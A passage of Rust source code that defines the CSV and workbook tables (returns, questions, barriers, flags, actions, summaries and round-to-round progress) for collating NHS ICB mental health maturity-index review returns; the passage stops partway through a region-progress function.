//! The tables of a collation, defined once: each is named columns (a name, what it means, a
//! width and a kind) and rows of typed cells. The workbook writes each table as a sheet with
//! typed cells (`xlsx.rs`), and [`to_csv`] writes the same columns as text, so the CSV files and
//! the workbook's sheets never differ.
//!
//! Rows are produced lazily, one at a time, so that 10,000 returns (1.6 million answers) are
//! never held twice in memory.
//!
//! National and regional counts are over ICB-level returns only: team and provider returns are
//! listed on their own tables ("Team returns", "Team questions") and keep their own flags and
//! actions, but never enter the Summary. (`iacmh_review::collate` keeps every return together;
//! the split by scope level is made here.)

use std::borrow::Cow;
use std::io::{self, Write};

use iacmh_review::collate::{Collation, FlagKind, ReturnSummary};
use iacmh_review::{BarrierCategory, Date, Index, Register, Return, ScopeLevel, Stage, Timestamp};

/// What a column holds, which decides its number format in the workbook and how CSV writes it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Words.
    Text,
    /// A whole number (a count).
    Count,
    /// A score, 0 to 100, with one decimal place.
    Score,
    /// A share, 0 to 1: a percentage in the workbook, the fraction in CSV.
    Share,
    /// A calendar date.
    Date,
    /// An instant (UTC in the workbook; CSV gives it as the return wrote it).
    Time,
}

/// One column of a table.
#[derive(Clone, Debug, PartialEq)]
pub struct Column {
    /// The header, the same in CSV and the workbook (`snake_case`, stable for formulas and joins).
    pub name: Cow<'static, str>,
    /// What the column means, for the workbook's About sheet.
    pub about: Cow<'static, str>,
    /// What it holds.
    pub kind: Kind,
    /// Its width in the workbook, in characters.
    pub width: f64,
}

fn col(name: &'static str, kind: Kind, width: f64, about: &'static str) -> Column {
    Column { name: Cow::Borrowed(name), about: Cow::Borrowed(about), kind, width }
}

/// A column whose name or meaning is made at run time (one per domain, provision question, ...).
fn made_col(name: String, kind: Kind, width: f64, about: String) -> Column {
    Column { name: Cow::Owned(name), about: Cow::Owned(about), kind, width }
}

/// A typed cell, so that a spreadsheet gets numbers as numbers and dates as dates.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell<'a> {
    /// Text, exactly as the return has it.
    Text(Cow<'a, str>),
    /// A number (a count, a score or a share, as its column says).
    Number(f64),
    /// A calendar date.
    Date(Date),
    /// An instant, and the text it was read from.
    Time(Timestamp, Cow<'a, str>),
    /// Yes or no: the words "Yes" and "No" in CSV and the workbook, a boolean for programs
    /// (the Python package).
    YesNo(bool),
    /// Nothing.
    Empty,
}

impl<'a> Cell<'a> {
    fn text(s: impl Into<Cow<'a, str>>) -> Cell<'a> {
        Cell::Text(s.into())
    }

    fn opt_text(s: &'a str) -> Cell<'a> {
        if s.is_empty() { Cell::Empty } else { Cell::Text(Cow::Borrowed(s)) }
    }

    fn score(n: Option<f64>) -> Cell<'a> {
        n.map_or(Cell::Empty, |v| Cell::Number((v * 10.0).round() / 10.0))
    }

    fn share(part: impl TryInto<u32>, whole: impl TryInto<u32>) -> Cell<'a> {
        let (part, whole) = (part.try_into().unwrap_or(u32::MAX), whole.try_into().unwrap_or(u32::MAX));
        if whole == 0 { Cell::Empty } else { Cell::Number(f64::from(part) / f64::from(whole)) }
    }

    fn yes_no(b: bool) -> Cell<'a> {
        Cell::YesNo(b)
    }

    fn opt_yes_no(b: Option<bool>) -> Cell<'a> {
        b.map_or(Cell::Empty, Cell::yes_no)
    }

    fn count(n: impl TryInto<u32>) -> Cell<'a> {
        Cell::Number(f64::from(n.try_into().unwrap_or(u32::MAX)))
    }

    /// A date as the return writes it (`YYYY-MM-DD`): a date when it is one, else the text.
    fn date(s: Option<&'a str>) -> Cell<'a> {
        match s {
            None | Some("") => Cell::Empty,
            Some(s) => Date::parse(s).map_or(Cell::Text(Cow::Borrowed(s)), Cell::Date),
        }
    }

    /// A timestamp as the return writes it: an instant when it is one, else the text.
    fn time(s: Option<&'a str>) -> Cell<'a> {
        match s {
            None | Some("") => Cell::Empty,
            Some(s) => Timestamp::parse(s).map_or(Cell::Text(Cow::Borrowed(s)), |t| Cell::Time(t, Cow::Borrowed(s))),
        }
    }

    /// The cell as CSV and the workbook's text fallbacks write it.
    pub fn as_text(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(t) => Cow::Borrowed(t),
            Cell::Number(n) => Cow::Owned(n.to_string()),
            Cell::Date(d) => Cow::Owned(d.to_string()),
            Cell::Time(_, t) => Cow::Borrowed(t),
            Cell::YesNo(b) => Cow::Borrowed(if *b { "Yes" } else { "No" }),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

/// One row of a table.
pub type Row<'a> = Vec<Cell<'a>>;

/// A table: a sheet of the workbook, a CSV file.
pub struct Table<'a> {
    /// The sheet's name (at most 31 characters, as Excel allows).
    pub name: &'static str,
    /// What one row is, for the About sheet.
    pub about: &'static str,
    /// The columns.
    pub columns: Vec<Column>,
    /// The rows, produced as they are read.
    pub rows: Box<dyn Iterator<Item = Row<'a>> + 'a>,
}

impl<'a> Table<'a> {
    fn new(
        name: &'static str,
        about: &'static str,
        columns: Vec<Column>,
        rows: impl Iterator<Item = Row<'a>> + 'a,
    ) -> Table<'a> {
        Table { name, about, columns, rows: Box::new(rows) }
    }
}

/// When and by what a report was made: the About sheet says so, and the Actions sheet counts an
/// action as overdue as of that day.
#[derive(Clone, Debug, PartialEq)]
pub struct Generated {
    /// Seconds since 1970-01-01T00:00:00Z.
    pub unix_seconds: i64,
    /// What made it, such as "iacmh 0.1.0 (command line)".
    pub by: String,
}

impl Generated {
    /// The day (UTC) the report was made.
    pub fn date(&self) -> Date {
        // Howard Hinnant's civil_from_days.
        let z = self.unix_seconds.div_euclid(86_400) + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z - era * 146_097;
        let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let day = (doy - (153 * mp + 2) / 5 + 1) as u8;
        let month = if mp < 10 { mp + 3 } else { mp - 9 } as u8;
        let year = (yoe + era * 400 + i64::from(month <= 2)) as u16;
        Date { year, month, day }
    }
}

/// Whether a return speaks for a whole ICB (and so enters the national and regional counts).
pub fn is_icb(r: &ReturnSummary) -> bool {
    r.is_icb()
}

/// The collated returns with the summaries, ICB-level or team and provider.
fn pairs(c: &Collation, icb: bool) -> impl Iterator<Item = (&ReturnSummary, &Return)> {
    c.returns.iter().zip(c.kept.iter().map(|(_, r)| r)).filter(move |(s, _)| is_icb(s) == icb)
}

fn stage(s: Option<Stage>) -> Cell<'static> {
    s.map_or(Cell::Empty, |s| Cell::text(s.label()))
}

/// The columns that say whose a row is, first in every per-return table, so that joins need no
/// look-up.
fn who_columns() -> Vec<Column> {
    vec![
        col("file", Kind::Text, 28.0, "The file the return came from"),
        col("icb_code", Kind::Text, 9.0, "The ICB's ODS code (from the register; empty when the ICB is not in it)"),
        col(
            "icb",
            Kind::Text,
            44.0,
            "The ICB: the register's formal name, or as the return wrote it when not in the register",
        ),
        col("region", Kind::Text, 22.0, "NHS England region: the return's, or the register's for the ICB"),
        col("level", Kind::Text, 9.0, "ICB, Provider or Team: whom the return speaks for"),
        col("organisation", Kind::Text, 26.0, "The provider organisation (provider and team returns)"),
        col("team", Kind::Text, 20.0, "The team (team returns)"),
    ]
}

fn who<'a>(s: &'a ReturnSummary) -> Row<'a> {
    vec![
        Cell::text(s.file.as_str()),
        s.icb_code.as_deref().map_or(Cell::Empty, Cell::text),
        Cell::text(s.icb.as_str()),
        Cell::opt_text(&s.region),
        Cell::text(s.level.label()),
        Cell::opt_text(&s.organisation),
        Cell::opt_text(&s.team),
    ]
}

fn returns_columns() -> Vec<Column> {
    let index = Index::current();
    let mut columns = who_columns();
    columns.extend([
        col("status", Kind::Text, 8.0, "Draft or Final, as the return says"),
        col("valid", Kind::Text, 7.0, "Yes when the return has no validation errors (warnings allowed)"),
        col("errors", Kind::Count, 7.0, "Validation errors"),
        col("warnings", Kind::Count, 9.0, "Validation warnings (cross-checks for a reviewer)"),
        col("personal_data", Kind::Count, 9.0, "Free-text places that look like they hold patient-identifiable data"),
        col("questions_answered", Kind::Count, 10.0, "Maturity index questions answered"),
        col("questions_total", Kind::Count, 9.0, "Questions in the index"),
        col("completeness", Kind::Share, 12.0, "Questions answered as a share of all questions"),
        col("template_done", Kind::Count, 9.0, "Required template answers given"),
        col("template_total", Kind::Count, 9.0, "Template answers required"),
        col("updated", Kind::Time, 17.0, "When the return was last changed (meta.updated), in UTC"),
        col("round", Kind::Text, 9.0, "The review round (YYYY/YY): as the return names it, or implied by its dates"),
        col(
            "overall_score",
            Kind::Score,
            9.0,
            "Score over all questions, 0 to 100 (not applicable excluded); partial when the return is incomplete",
        ),
        col("overall_stage", Kind::Text, 18.0, "Stage over all questions"),
    ]);
    for d in index.domains {
        columns.push(made_col(
            format!("d{}_score", d.number),
            Kind::Score,
            8.0,
            format!("Score of domain {}, {}: 0 to 100", d.number, d.title),
        ));
    }
    for d in index.domains {
        columns.push(made_col(
            format!("d{}_stage", d.number),
            Kind::Text,
            16.0,
            format!("Stage of domain {}, {}", d.number, d.title),
        ));
    }
    columns.push(col(
        "assured",
        Kind::Text,
        8.0,
        "Whether the ICB is assured that services can meet the needs of people in scope",
    ));
    for p in index.provision {
        columns.push(Column {
            name: Cow::Borrowed(p.question.key()),
            about: Cow::Borrowed(p.question.wording()),
            kind: Kind::Text,
            width: 10.0,
        });
    }
    columns.extend([
        col("sro", Kind::Text, 24.0, "The senior responsible officer named in the template"),
        col("operational_lead", Kind::Text, 24.0, "The operational lead: whom to contact about the return"),
        col("operational_lead_email", Kind::Text, 30.0, "The operational lead's email address"),
    ]);
    columns
}

fn returns_row<'a>(s: &'a ReturnSummary, ret: &'a Return) -> Row<'a> {
    let index = Index::current();
    let mut row = who(s);
    row.extend([
        Cell::text(s.status.label()),
        Cell::yes_no(s.valid),
        Cell::count(s.errors),
        Cell::count(s.warnings),
        Cell::count(s.personal_data),
        Cell::count(s.maturity.done),
        Cell::count(s.maturity.total),
        Cell::share(s.maturity.done, s.maturity.total),
        Cell::count(s.template.done),
        Cell::count(s.template.total),
        Cell::time(s.updated.as_deref()),
        s.round.as_deref().map_or(Cell::Empty, Cell::text),
        Cell::score(s.overall_score),
        stage(s.overall_stage),
    ]);
    let domain = |n: u8| s.domains.iter().find(|x| x.domain == n);
    row.extend(index.domains.iter().map(|d| Cell::score(domain(d.number).and_then(|x| x.score))));
    row.extend(index.domains.iter().map(|d| stage(domain(d.number).map(|x| x.stage))));
    row.push(Cell::opt_yes_no(s.assured));
    for p in index.provision {
        row.push(Cell::opt_yes_no(s.provision.iter().find(|(q, _)| *q == p.question).and_then(|(_, v)| *v)));
    }
    let review = &ret.outcome.review;
    row.extend([
        Cell::opt_text(&review.sro_name),
        Cell::opt_text(&review.operational_lead),
        Cell::opt_text(&review.operational_lead_email),
    ]);
    row
}

/// One row per ICB-level return.
pub fn returns(c: &Collation) -> Table<'_> {
    Table::new(
        "Returns",
        "One row per ICB-level return collated (duplicates left out; see Files)",
        returns_columns(),
        pairs(c, true).map(|(s, r)| returns_row(s, r)),
    )
}

/// One row per team or provider return: the same columns as Returns.
pub fn team_returns(c: &Collation) -> Table<'_> {
    Table::new(
        "Team returns",
        "One row per team or provider return; these never enter the Summary's national and regional counts",
        returns_columns(),
        pairs(c, false).map(|(s, r)| returns_row(s, r)),
    )
}

/// Each question's id and whole text, in the index's order, worked out once rather than once
/// per return.
fn question_texts() -> &'static [(String, Cow<'static, str>)] {
    static TEXTS: std::sync::OnceLock<Vec<(String, Cow<'static, str>)>> = std::sync::OnceLock::new();
    TEXTS.get_or_init(|| Index::current().questions().map(|q| (q.id.to_string(), q.full_text())).collect())
}

fn questions_table<'a>(c: &'a Collation, name: &'static str, about: &'static str, icb: bool) -> Table<'a> {
    let index = Index::current();
    let mut columns = who_columns();
    columns.extend([
        col("domain", Kind::Count, 7.0, "The domain's number, 1 to 14"),
        col("domain_title", Kind::Text, 30.0, "The domain's title"),
        col("question", Kind::Text, 8.0, "The question's id, D.NN"),
        col("question_text", Kind::Text, 60.0, "The whole question, with the heading it completes"),
        col("category", Kind::Text, 10.0, "Essential, Enhancer or Desirable"),
        col("rating", Kind::Text, 24.0, "The rating in the tool's words (empty when not answered)"),
        col("rating_key", Kind::Text, 20.0, "The rating as the return format writes it, such as no_action_in_hand"),
        col("points", Kind::Count, 7.0, "The rating on the 0-3 scale behind scores (empty for not applicable)"),
        col("comment", Kind::Text, 60.0, "The comment given with the rating"),
    ]);
    let rows = pairs(c, icb).flat_map(move |(s, ret)| {
        index.questions().zip(question_texts()).map(move |(q, (id, text))| {
            let answer = ret.maturity.answers.get(q.id);
            let mut row = who(s);
            row.extend([
                Cell::count(q.id.domain),
                index.domain(q.id.domain).map_or(Cell::Empty, |d| Cell::text(d.title)),
                Cell::text(id.as_str()),
                Cell::text(text.as_ref()),
                Cell::text(q.category.label()),
                answer.map_or(Cell::Empty, |a| Cell::text(a.rating.label())),
                answer.map_or(Cell::Empty, |a| Cell::text(a.rating.key())),
                answer.and_then(|a| a.rating.points()).map_or(Cell::Empty, Cell::count),
                answer.and_then(|a| a.comment.as_deref()).map_or(Cell::Empty, Cell::opt_text),
            ]);
            row
        })
    });
    Table::new(name, about, columns, rows)
}

/// One row per ICB-level return and question: the long format for pivot tables.
pub fn questions(c: &Collation) -> Table<'_> {
    questions_table(c, "Questions", "One row per ICB-level return and question (long format, for pivot tables)", true)
}

/// One row per team or provider return and question.
pub fn team_questions(c: &Collation) -> Table<'_> {
    questions_table(c, "Team questions", "One row per team or provider return and question", false)
}

/// The barriers each ICB-level return names, one column per kind.
pub fn barriers(c: &Collation) -> Table<'_> {
    let mut columns = who_columns();
    columns.truncate(4);
    for b in BarrierCategory::ALL {
        columns.push(Column {
            name: Cow::Borrowed(b.key()),
            about: format!("Yes when the return names {} as a barrier", b.label()).into(),
            kind: Kind::Text,
            width: 12.0,
        });
    }
    columns.push(col("barriers_text", Kind::Text, 60.0, "The barriers as the return describes them"));
    let rows = pairs(c, true).map(|(s, ret)| {
        let mut row = who(s);
        row.truncate(4);
        row.extend(BarrierCategory::ALL.iter().map(|b| Cell::yes_no(s.barriers.contains(b))));
        row.push(Cell::opt_text(&ret.outcome.barriers.text));
        row
    });
    Table::new("Barriers", "One row per ICB-level return: the kinds of barrier it names", columns, rows)
}

/// The red flags: DNAs used for discharge and not assured first, ICB-level returns before team
/// and provider ones.
pub fn flags(c: &Collation) -> Table<'_> {
    let index = Index::current();
    let mut columns = who_columns();
    columns.extend([
        col("flag", Kind::Text, 30.0, "What is flagged"),
        col("domain", Kind::Count, 7.0, "The domain, for essentials not met"),
        col("domain_title", Kind::Text, 30.0, "The domain's title"),
        col("questions", Kind::Text, 16.0, "The essential questions rated No in that domain"),
        col("detail", Kind::Text, 60.0, "What a person is told"),
    ]);
    let at: std::collections::HashMap<&str, usize> =
        c.returns.iter().enumerate().map(|(i, r)| (r.file.as_str(), i)).collect();
    let mut order: Vec<(usize, Option<usize>)> =
        c.flags.iter().enumerate().map(|(i, f)| (i, at.get(f.file.as_str()).copied())).collect();
    order.sort_by_key(|&(i, at)| {
        let level = at.map_or(ScopeLevel::Icb, |at| c.returns[at].level);
        (level != ScopeLevel::Icb, c.flags[i].kind.rank(), at, i)
    });
    let rows = order.into_iter().map(move |(i, at)| {
        let f = &c.flags[i];
        let mut row = match at {
            Some(at) => who(&c.returns[at]),
            None => {
                let mut row = vec![Cell::text(f.file.as_str()), Cell::Empty, Cell::text(f.icb.as_str())];
                row.resize(7, Cell::Empty);
                row
            }
        };
        let domain = match f.kind {
            FlagKind::EssentialsNotMet { domain } => Some(domain),
            _ => None,
        };
        let essentials_no = domain.zip(at).map(|(d, at)| {
            let answers = &c.kept[at].1.maturity.answers;
            index
                .questions()
                .filter(|q| q.id.domain == d && q.category == iacmh_review::Category::Essential)
                .filter(|q| answers.rating(q.id).is_some_and(|r| r.is_no()))
                .map(|q| q.id.to_string())
                .collect::<Vec<_>>()
                .join(", ")
        });
        row.extend([
            Cell::text(f.kind.label()),
            domain.map_or(Cell::Empty, Cell::count),
            domain.and_then(|d| index.domain(d)).map_or(Cell::Empty, |d| Cell::text(d.title)),
            essentials_no.map_or(Cell::Empty, Cell::text),
            Cell::text(f.message.as_str()),
        ]);
        row
    });
    Table::new("Flags", "One row per red flag: DNAs used for discharge and not assured first", columns, rows)
}

/// Every Findings and Actions row of every return, with whether it is overdue on `today`.
pub fn actions<'a>(c: &'a Collation, today: Date) -> Table<'a> {
    let index = Index::current();
    let mut columns = who_columns();
    columns.extend([
        col("domain", Kind::Count, 7.0, "The domain's number"),
        col("domain_title", Kind::Text, 30.0, "The domain's title"),
        col("question", Kind::Text, 8.0, "The question the finding came from, when it came from one"),
        col("finding", Kind::Text, 50.0, "What was found"),
        col("action", Kind::Text, 50.0, "The action agreed"),
        col("owner", Kind::Text, 24.0, "Who is responsible for the action"),
        col("due", Kind::Date, 12.0, "When the action is due"),
        col("completed", Kind::Text, 10.0, "Yes when the action is marked completed"),
        col("overdue", Kind::Text, 9.0, "Yes when not completed and due before the day of collation (see About)"),
        col("comments", Kind::Text, 40.0, "Anything else the group noted"),
    ]);
    let rows = c.returns.iter().zip(&c.kept).flat_map(move |(s, (_, ret))| {
        ret.maturity.findings.iter().map(move |r| {
            let due = r.due.as_deref().and_then(Date::parse);
            let mut row = who(s);
            row.extend([
                Cell::count(r.domain),
                index.domain(r.domain).map_or(Cell::Empty, |d| Cell::text(d.title)),
                r.question.map_or(Cell::Empty, |q| Cell::text(q.to_string())),
                Cell::opt_text(&r.finding),
                Cell::opt_text(&r.action),
                Cell::opt_text(&r.owner),
                Cell::date(r.due.as_deref()),
                Cell::yes_no(r.completed),
                Cell::yes_no(!r.completed && due.is_some_and(|d| d < today)),
                Cell::opt_text(&r.comments),
            ]);
            row
        })
    });
    Table::new("Actions", "One row per Findings and Actions row of every return", columns, rows)
}

/// The register's ICBs with no ICB-level return.
pub fn not_returned(c: &Collation) -> Table<'_> {
    let returned: Vec<&str> = c.returns.iter().filter(|r| is_icb(r)).filter_map(|r| r.icb_code.as_deref()).collect();
    let columns = vec![
        col("icb_code", Kind::Text, 9.0, "The ICB's ODS code"),
        col("icb", Kind::Text, 44.0, "The ICB's formal name"),
        col("region", Kind::Text, 22.0, "Its NHS England region"),
    ];
    let rows = Register::get()
        .icbs
        .iter()
        .filter(move |i| !returned.contains(&i.code))
        .map(|i| vec![Cell::text(i.code), Cell::text(i.name), Cell::text(i.region)]);
    Table::new("Not returned", "One row per ICB in the register with no ICB-level return collated", columns, rows)
}

/// Every file offered: collated, left out as a duplicate (of which file and why), or unreadable
/// (and why).
pub fn files(c: &Collation) -> Table<'_> {
    let columns = vec![
        col("file", Kind::Text, 40.0, "The file"),
        col("outcome", Kind::Text, 14.0, "Collated, Duplicate (left out), Unreadable, or Text cut (the workbook only)"),
        col("kept", Kind::Text, 40.0, "For a duplicate, the file collated in its place"),
        col("detail", Kind::Text, 80.0, "Why: the scope and status of a return, or the reason it was left out"),
    ];
    let collated = c.returns.iter().map(|r| {
        let validity = if r.valid { "valid".to_owned() } else { format!("{} errors", r.errors) };
        let mut scope = r.icb.clone();
        for part in [&r.organisation, &r.team] {
            if !part.trim().is_empty() {
                scope.push_str(": ");
                scope.push_str(part);
            }
        }
        vec![
            Cell::text(r.file.as_str()),
            Cell::text("Collated"),
            Cell::Empty,
            Cell::text(format!("{} return for {scope} ({}, {validity})", r.level.label(), r.status.label())),
        ]
    });
    let duplicates = c.duplicates.iter().map(|d| {
        vec![
            Cell::text(d.dropped.as_str()),
            Cell::text("Duplicate"),
            Cell::text(d.kept.as_str()),
            Cell::text(format!("Left out: {}", d.message())),
        ]
    });
    let unreadable = c.unreadable.iter().map(|u| {
        vec![Cell::text(u.file.as_str()), Cell::text("Unreadable"), Cell::Empty, Cell::text(u.error.message.as_str())]
    });
    Table::new(
        "Files",
        "One row per file offered, and what became of it",
        columns,
        collated.chain(duplicates).chain(unreadable),
    )
}

/// ICB-level returns by region and for England: what was expected, received and said.
pub fn summary(c: &Collation) -> Table<'_> {
    let index = Index::current();
    let mut columns = vec![
        col("region", Kind::Text, 26.0, "NHS England region, or England for all ICB-level returns"),
        col("icbs_expected", Kind::Count, 9.0, "ICBs in the register"),
        col("received", Kind::Count, 9.0, "ICB-level returns collated"),
        col("valid", Kind::Count, 7.0, "Of those, returns with no validation errors"),
        col("final", Kind::Count, 7.0, "Returns marked final"),
        col("draft", Kind::Count, 7.0, "Returns still drafts"),
        col("not_assured", Kind::Count, 9.0, "Returns saying the ICB is not assured"),
        col("dna_used_for_discharge", Kind::Count, 11.0, "Returns saying DNAs are used as a reason for discharge"),
        col("team_returns", Kind::Count, 9.0, "Team and provider returns (not counted elsewhere on this sheet)"),
    ];
    for p in index.provision {
        columns.push(made_col(
            format!("{}_yes_share", p.question.key()),
            Kind::Share,
            11.0,
            format!("Share of returns answering it that say yes: {}", p.question.wording()),
        ));
    }
    for b in BarrierCategory::ALL {
        columns.push(made_col(
            format!("barrier_{}_share", b.key()),
            Kind::Share,
            11.0,
            format!("Share of returns received naming {} as a barrier", b.label()),
        ));
    }
    for d in index.domains {
        columns.push(made_col(
            format!("d{}_mean_score", d.number),
            Kind::Score,
            8.0,
            format!("Mean score of domain {}, {}, over returns that scored it", d.number, d.title),
        ));
    }
    let rows = c.regions().into_iter().map(move |counts| {
        let all = counts.region == "England";
        let region = counts.region.clone();
        let rs: Vec<&ReturnSummary> = c.icb_returns().filter(|r| all || r.region == region).collect();
        let n = rs.len();
        let answer = |r: &ReturnSummary, q| r.provision.iter().find(|(x, _)| *x == q).and_then(|(_, v)| *v);
        let mut row = vec![
            Cell::text(if counts.region.is_empty() { "(no region)".to_owned() } else { counts.region }),
            Cell::count(counts.expected),
            Cell::count(counts.received),
            Cell::count(counts.valid),
            Cell::count(counts.finals),
            Cell::count(counts.drafts),
            Cell::count(counts.not_assured),
            Cell::count(counts.dna_used_for_discharge),
            Cell::count(counts.team_returns),
        ];
        for p in index.provision {
            let answers: Vec<bool> = rs.iter().filter_map(|r| answer(r, p.question)).collect();
            row.push(Cell::share(answers.iter().filter(|a| **a).count(), answers.len()));
        }
        for b in BarrierCategory::ALL {
            row.push(Cell::share(rs.iter().filter(|r| r.barriers.contains(&b)).count(), n));
        }
        for d in index.domains {
            let scores: Vec<f64> = rs
                .iter()
                .filter_map(|r| r.domains.iter().find(|x| x.domain == d.number).and_then(|x| x.score))
                .collect();
            row.push(Cell::score((!scores.is_empty()).then(|| scores.iter().sum::<f64>() / scores.len() as f64)));
        }
        row
    });
    Table::new(
        "Summary",
        "One row per region and one for England: ICB-level returns only (team and provider returns are counted apart)",
        columns,
        rows,
    )
}

/// The mean score of each domain by region and for England (ICB-level returns): the workbook
/// charts it.
pub fn domains_by_region(c: &Collation) -> Table<'_> {
    let index = Index::current();
    let register = Register::get();
    let mut regions: Vec<String> = register.regions.iter().map(|r| (*r).to_owned()).collect();
    for r in c.returns.iter().filter(|r| is_icb(r)) {
        if !regions.contains(&r.region) {
            regions.push(r.region.clone());
        }
    }
    let mut columns = vec![
        col("domain", Kind::Count, 7.0, "The domain's number"),
        col("domain_title", Kind::Text, 40.0, "The domain's title"),
    ];
    for r in &regions {
        let name = if r.is_empty() { "(no region)".to_owned() } else { r.clone() };
        columns.push(Column {
            name: name.into(),
            about: "Mean score (0 to 100) of the domain over the region's ICB-level returns that scored it".into(),
            kind: Kind::Score,
            width: 12.0,
        });
    }
    columns.push(col("England", Kind::Score, 12.0, "Mean score over all ICB-level returns that scored the domain"));
    let rows = index.domains.iter().map(move |d| {
        let mean = |region: Option<&str>| {
            let scores: Vec<f64> = c
                .returns
                .iter()
                .filter(|r| is_icb(r) && region.is_none_or(|g| r.region == g))
                .filter_map(|r| r.domains.iter().find(|x| x.domain == d.number).and_then(|x| x.score))
                .collect();
            Cell::score((!scores.is_empty()).then(|| scores.iter().sum::<f64>() / scores.len() as f64))
        };
        let mut row = vec![Cell::count(d.number), Cell::text(d.title)];
        row.extend(regions.iter().map(|r| mean(Some(r))));
        row.push(mean(None));
        row
    });
    Table::new("Domains by region", "One row per domain: its mean score in each region and in England", columns, rows)
}

/// A round, or "(no round)" when no date places a return in one.
fn round_cell(r: &Option<String>) -> Cell<'_> {
    Cell::text(r.as_deref().unwrap_or("(no round)"))
}

/// A yes/no answer in two rounds, as "No → Yes" ("not answered" for none).
pub fn yes_no_change(before: Option<bool>, after: Option<bool>) -> String {
    let word = |b: Option<bool>| match b {
        Some(true) => "Yes",
        Some(false) => "No",
        None => "not answered",
    };
    format!("{} → {}", word(before), word(after))
}

/// One row per scope and pair of rounds: how it moved from one round to the next, with
/// actions counted overdue as of `today`.
pub fn progress<'a>(c: &'a Collation, today: Date) -> Table<'a> {
    let index = Index::current();
    let mut columns = vec![
        col("icb_code", Kind::Text, 9.0, "The ICB's ODS code (from the register)"),
        col("icb", Kind::Text, 44.0, "The ICB"),
        col("region", Kind::Text, 22.0, "NHS England region"),
        col("level", Kind::Text, 9.0, "ICB, Provider or Team: whom the returns speak for"),
        col("scope", Kind::Text, 40.0, "The scope: the ICB, then the organisation and team when given"),
        col("from_round", Kind::Text, 10.0, "The earlier round"),
        col("to_round", Kind::Text, 10.0, "The later round"),
        col("score_before", Kind::Score, 9.0, "Overall score in the earlier round, 0 to 100"),
        col("score_after", Kind::Score, 9.0, "Overall score in the later round, 0 to 100"),
        col("score_change", Kind::Score, 9.0, "Overall score change (later minus earlier)"),
    ];
    for d in index.domains {
        columns.push(made_col(
            format!("d{}_change", d.number),
            Kind::Score,
            8.0,
            format!("Score change of domain {}, {} (later minus earlier)", d.number, d.title),
        ));
    }
    columns.extend([
        col("questions_improved", Kind::Count, 10.0, "Questions rated higher in the later round"),
        col("questions_worsened", Kind::Count, 10.0, "Questions rated lower in the later round"),
        col("actions_completed", Kind::Count, 10.0, "Actions marked completed since the earlier round"),
        col("actions_added", Kind::Count, 9.0, "Findings and actions new in the later round"),
        col("actions_removed", Kind::Count, 9.0, "Findings and actions of the earlier round no longer there"),
        col("actions_open", Kind::Count, 9.0, "Actions of the later round not completed"),
        col("actions_overdue", Kind::Count, 9.0, "Of those, due before the day of collation (see About)"),
        col("assured_before", Kind::Text, 9.0, "Assured in the earlier round"),
        col("assured_after", Kind::Text, 9.0, "Assured in the later round"),
        col(
            "provision_changes",
            Kind::Text,
            60.0,
            "Provision answers that changed, as \"question: before → after\"; one per line",
        ),
    ]);
    let rows = c.progress.iter().map(move |p| {
        let cmp = &p.comparison;
        let domain = |n: u8| cmp.scores.iter().find(|s| s.domain == Some(n)).and_then(|s| Some(s.after? - s.before?));
        let mut row = vec![
            p.icb_code.as_deref().map_or(Cell::Empty, Cell::text),
            Cell::text(p.icb.as_str()),
            Cell::opt_text(&p.region),
            Cell::text(p.level.label()),
            Cell::text(p.scope.as_str()),
            round_cell(&p.from),
            round_cell(&p.to),
            Cell::score(p.score_before),
            Cell::score(p.score_after),
            Cell::score(p.score_change()),
        ];
        row.extend(index.domains.iter().map(|d| Cell::score(domain(d.number))));
        let provision: Vec<String> = p
            .provision_changes()
            .map(|t| format!("{}: {}", t.field.label(), yes_no_change(t.before, t.after)))
            .collect();
        row.extend([
            Cell::count(cmp.improved.len()),
            Cell::count(cmp.worsened.len()),
            Cell::count(cmp.actions_completed.len()),
            Cell::count(cmp.actions_added.len()),
            Cell::count(cmp.actions_removed.len()),
            Cell::count(p.open_actions_due.len()),
            Cell::count(p.overdue(today)),
            Cell::opt_yes_no(p.assured_before),
            Cell::opt_yes_no(p.assured_after),
            if provision.is_empty() { Cell::Empty } else { Cell::text(provision.join("\n")) },
        ]);
        row
    });
    Table::new(
        "Progress",
        "One row per scope given in two rounds: how it moved from the earlier round to the later",
        columns,
        rows,
    )
}

/// One row per region (and England) and pair of rounds: the progress of its ICBs (ICB-level
/// returns only), with actions counted overdue as of `today`.
pub fn progress_by_region<'a>(c: &'a Collation, today: Date) -> Table<'a> {
    let index = Index::current();
    let mut columns = vec![
        col("region", Kind::Text, 26.0, "NHS England region, or England for all"),
        col("from_round", Kind::Text, 10.0, "The earlier round"),
        col("to_round", Kind::Text, 10.0, "The later round"),
        col("icbs", Kind::Count, 7.0, "ICBs with an ICB-level return in both rounds"),
        col("improved", Kind::Count, 9.0, "Of those, ICBs whose overall score rose"),
        col("worsened", Kind::Count, 9.0, "Of those, ICBs whose overall score fell"),
        col("mean_score_change", Kind::Score, 10.0, "Mean change of the overall score"),
    ];
    for d in index.domains {
        columns.push(made_col(
            format!("d{}_mean_change", d.number),
            Kind::Score,
            8.0,
            format!("Mean score change of domain {}, {}", d.number, d.title),
        ));
    }
    columns.extend([
        col("actions_completed", Kind::Count, 10.0, "Actions completed since the earlier round"),
        col("actions_overdue", Kind::Count, 9.0, "Actions of the later round overdue on the day of collation"),
        col("became_assured", Kind::Count, 9.0, "ICBs not assured in the earlier round and assured in the later"),
        col("no_longer_assured", Kind::Count, 9.0, "ICBs assured in the earlier round and not in the later"),
        col("provision_changes", Kind::Count, 9.0, "Provision answers that changed between yes and no"),
    ]);
    let rows = c.region_progress(today).into_iter().map(move |p| {
        let mut row = vec![
            Cell::text(p.region),
            Cell::text(p.from.unwrap_or_else(|| "(no round)".to_owned())),
            Cell::text(p.to.unwrap_or_else(|| "(no round)".to_owned())),
            Cell::count(p.icbs),
            Cell::count(p.improved),
            Cell::count(p.worsened),
            Cell::score(p.mean_score_change),
        ];
        row.extend(p.domain_changes.iter().map(|(_, d)| Cell::score(*d)));
        row.extend([
            Cell::count(p.actions_completed),
            Cell::count(p.actions_overdue),
            Cell::count(p.became_assured),
            Cell::count(p.no_longer_assured),
            Cell::count(p.provision_changes),
        ]);
        row
    });
